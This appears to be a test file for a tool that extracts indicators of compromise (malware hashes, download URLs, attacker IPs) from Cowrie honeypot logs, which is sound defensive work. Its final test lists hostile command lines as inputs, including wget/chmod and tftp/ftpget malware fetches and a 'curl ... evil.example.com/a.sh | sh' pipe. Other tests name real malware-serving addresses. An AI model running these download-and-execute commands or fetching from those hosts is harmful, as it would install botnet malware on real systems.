import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { urlsInCommand } from './commands.js';
import type { CowrieEvent } from './events.js';
import { EMPTY_SHA256, IndicatorCollector } from './extract.js';
import { readCowrieLogs } from './reader.js';
import { buildSessions, type CowrieSession, SessionBuilder } from './sessions.js';
import { COWRIE_LOGS, COWRIE_SKIP } from './test-data.js';

async function collect(...paths: string[]): Promise<{ collector: IndicatorCollector; sessions: CowrieSession[] }> {
  const collector = new IndicatorCollector();
  const sessions: CowrieSession[] = [];
  for await (const s of buildSessions(readCowrieLogs(paths))) {
    sessions.push(s);
    collector.add(s);
  }
  return { collector, sessions };
}

const N3_SHA = '3be56c3e5cc12387b3857b841cea6341494b572811617e47df6dbf160b5ca866';

test('2018: the dropper hash in 14 download events over 7 sessions is ONE indicator', { skip: COWRIE_SKIP }, async () => {
  const { collector } = await collect(COWRIE_LOGS.kareiva2018);
  const hashes = collector.list().filter((x) => x.kind === 'file');
  assert.equal(hashes.length, 1);
  assert.equal(hashes[0]?.id, N3_SHA);
  assert.equal(hashes[0]?.sessions, 7);
  assert.equal(hashes[0]?.events, 14);
  assert.deepEqual(hashes[0]?.names, ['n3']);
  const urls = collector.list().filter((x) => x.kind === 'url');
  assert.deepEqual(
    urls.map((u) => [u.value, u.sessions]),
    [['http://54.37.72.170/n3', 7]],
  );
  const host = collector.get('ip', '54.37.72.170');
  assert.deepEqual(host?.roles, ['url_host']);
});

test('2020: both SFTP uploads are found by hash, without URLs', { skip: COWRIE_SKIP }, async () => {
  const { collector } = await collect(COWRIE_LOGS.pittman2020);
  const uploads = collector.list().filter((x) => x.roles.includes('upload'));
  assert.deepEqual(uploads.map((u) => u.id.slice(0, 8)).sort(), ['1a0aa7fc', '48c39ca9']);
  assert.ok(uploads.every((u) => u.names[0] === 'eyshcjdmzg'));
  const dl = collector.get('file', '26e80ca1414fd6e57398200354a5cd8efb377ed9c5b1baf1037f071872b7dbc1');
  assert.equal(dl?.sessions, 5);
});

test('telnet: the ISIS.sh download URL and its tftp twin from the command line', { skip: COWRIE_SKIP }, async () => {
  const { collector, sessions } = await collect(COWRIE_LOGS.telnet2023);
  assert.ok(sessions.every((s) => s.protocol === 'telnet'));
  const urls = collector.list().filter((x) => x.kind === 'url').map((x) => x.value);
  assert.deepEqual(urls.sort(), ['http://87.242.89.170/ISIS.sh', 'tftp://87.242.89.170/tftp1.sh']);
  assert.ok(collector.get('file', 'f03b5186bfc5f66608e1505f2a7f386900f54ebb810d7e8f3ac644bcb811bbed'));
});

test('2023: the redirect capture yields a hash but no URL; message [] breaks nothing', { skip: COWRIE_SKIP }, async () => {
  const { collector } = await collect(COWRIE_LOGS.redirect2023);
  const redirect = collector.get('file', '199d11d0fd7043fe9206954ed8bc7b54d1912013a2a71bdf8bb007b71bb490c8');
  assert.deepEqual(redirect?.roles, ['download']);
  assert.deepEqual(redirect?.names, ['rootsenpai']);
  const urls = collector.list().filter((x) => x.kind === 'url').map((x) => x.value);
  // The logged URL (twice plus a failure) and the tftp forms of the same command line; nothing for the redirect.
  assert.deepEqual(urls.sort(), ['http://94.156.68.152/ah', 'tftp://94.156.68.152/ah']);
  assert.equal(collector.get('url', collector.list().find((x) => x.value === 'http://94.156.68.152/ah')?.id ?? '')?.sessions, 1);
});

test('botnet scp: stdin captures (destfile "") yield their hashes', { skip: COWRIE_SKIP }, async () => {
  const { collector } = await collect(COWRIE_LOGS.scp2024);
  const ids = collector.list().filter((x) => x.kind === 'file').map((x) => x.id.slice(0, 8));
  assert.deepEqual(ids.sort(), ['1b82ac2a', 'b9e33cd4']);
  assert.equal(collector.list().filter((x) => x.kind === 'url').length, 0);
});

test('2026: the six RedTail uploads are hashes; TTY log shasums are never file hashes', { skip: COWRIE_SKIP }, async () => {
  const { collector } = await collect(COWRIE_LOGS.prabhath2026);
  const uploads = collector.list().filter((x) => x.roles.includes('upload'));
  assert.equal(uploads.length, 6);
  assert.ok(uploads.some((u) => u.id === '59c29436755b0778e968d49feeae20ed65f5fa5e35f9f7965b8ed93420db91e5' && u.names.includes('redtail.x86_64')));
  const ttyHashes = readFileSync(COWRIE_LOGS.prabhath2026, 'utf8')
    .split('\n')
    .filter((l) => l.includes('"cowrie.log.closed"'))
    .map((l) => (JSON.parse(l) as { shasum: string }).shasum);
  assert.ok(ttyHashes.length > 100);
  for (const h of ttyHashes) assert.equal(collector.get('file', h), undefined);
});

test('empty and empty-input hashes and local-path "URLs" are skipped and counted', { skip: COWRIE_SKIP }, () => {
  const b = new SessionBuilder();
  const base = { session: 'ffffffffffff', src_ip: '203.0.113.9', _file: 't', _line: 1 };
  const events = [
    { eventid: 'cowrie.session.file_download', url: 'http://103.56.149.224/cacti/ns2.jpg', shasum: '', outfile: '' },
    { eventid: 'cowrie.session.file_upload', filename: 'sshd', shasum: EMPTY_SHA256 },
    { eventid: 'cowrie.session.file_download', url: '/dev/null', shasum: 'a'.repeat(64) },
    { eventid: 'cowrie.session.file_download', url: '/etc/rc.local', shasum: 'b'.repeat(64) },
    { eventid: 'cowrie.session.file_download', shasum: 'not-a-hash' },
    { eventid: 'cowrie.session.closed' },
  ];
  let session: CowrieSession | undefined;
  for (const e of events) session = b.push({ ...base, ...e } as CowrieEvent) ?? session;
  const c = new IndicatorCollector({ allowPrivate: true });
  assert.ok(session);
  c.add(session);
  assert.deepEqual(c.stats, { emptyHashes: 1, emptyFileHashes: 1, invalidHashes: 1, localPathUrls: 2, refused: 0 });
  const list = c.list();
  assert.deepEqual(
    list.map((x) => `${x.kind}:${x.value}`),
    [`file:${'a'.repeat(64)}`, `file:${'b'.repeat(64)}`, 'url:http://103.56.149.224/cacti/ns2.jpg', 'ip:103.56.149.224', 'ip:203.0.113.9'],
  );
});

test('lookup order: unknown hashes, known hashes, URLs, hosts, attackers; most seen first', { skip: COWRIE_SKIP }, async () => {
  const { collector } = await collect(COWRIE_LOGS.pittman2020, COWRIE_LOGS.redirect2023);
  const known = '26e80ca1414fd6e57398200354a5cd8efb377ed9c5b1baf1037f071872b7dbc1';
  const list = collector.list({ isKnown: (kind, id) => kind === 'file' && id === known });
  const groups = list.map((x) => (x.kind === 'file' ? (x.known ? 'known-hash' : 'hash') : x.kind === 'url' ? 'url' : x.roles.includes('url_host') ? 'host' : 'attacker'));
  const order = ['hash', 'known-hash', 'url', 'host', 'attacker'];
  for (let i = 1; i < groups.length; i++) assert.ok(order.indexOf(groups[i - 1] ?? '') <= order.indexOf(groups[i] ?? ''), groups.join(','));
  assert.equal(list.find((x) => x.kind === 'file' && x.known)?.id, known);
  // 104.148.124.120 both attacked and served a file: it is looked up with the URL hosts.
  assert.deepEqual(list.find((x) => x.value === '104.148.124.120')?.roles.sort(), ['attacker', 'url_host']);
  const attackers = list.filter((x) => x.roles.includes('attacker') && !x.roles.includes('url_host'));
  assert.equal(attackers[0]?.value, '157.230.123.253'); // 12 sessions, the most
  assert.equal(attackers[0]?.sessions, 12);
});

test('URLs in attacker command lines', { skip: COWRIE_SKIP }, () => {
  const cases: Array<[string, string[]]> = [
    ['cd /tmp; wget http://1.2.3.4/x.sh; chmod +x x.sh', ['http://1.2.3.4/x.sh']],
    ['curl -O http://94.156.68.152/ah || busybox wget http://94.156.68.152/ah', ['http://94.156.68.152/ah', 'http://94.156.68.152/ah']],
    ['/bin/busybox wget 45.148.10.95/bins/x86 -O -> x', ['http://45.148.10.95/bins/x86']],
    ['tftp -g -r tftp1.sh 87.242.89.170', ['tftp://87.242.89.170/tftp1.sh']],
    ['tftp -g 87.242.89.170 -r tftp1.sh', ['tftp://87.242.89.170/tftp1.sh']],
    ['tftp 94.156.68.152 -c get ah', ['tftp://94.156.68.152/ah']],
    ['busybox tftp -r mips -g 198.51.100.7 6969', ['tftp://198.51.100.7:6969/mips']],
    ['ftpget -v -u anonymous -p anonymous -P 21 192.0.2.55 ftp1.sh ftp1.sh', ['ftp://192.0.2.55/ftp1.sh']],
    ["sh -c 'curl -s \"https://evil.example.com/a.sh\" | sh'", ['https://evil.example.com/a.sh']],
    ['wget --user-agent="Mozilla/5.0" --output-document=/tmp/x http://example.org/p', ['http://example.org/p']],
    ['echo http://not-a-download.example.com/x', []],
    ['uname -a; cat /proc/cpuinfo', []],
  ];
  for (const [line, expected] of cases) assert.deepEqual(urlsInCommand(line), expected, line);
});
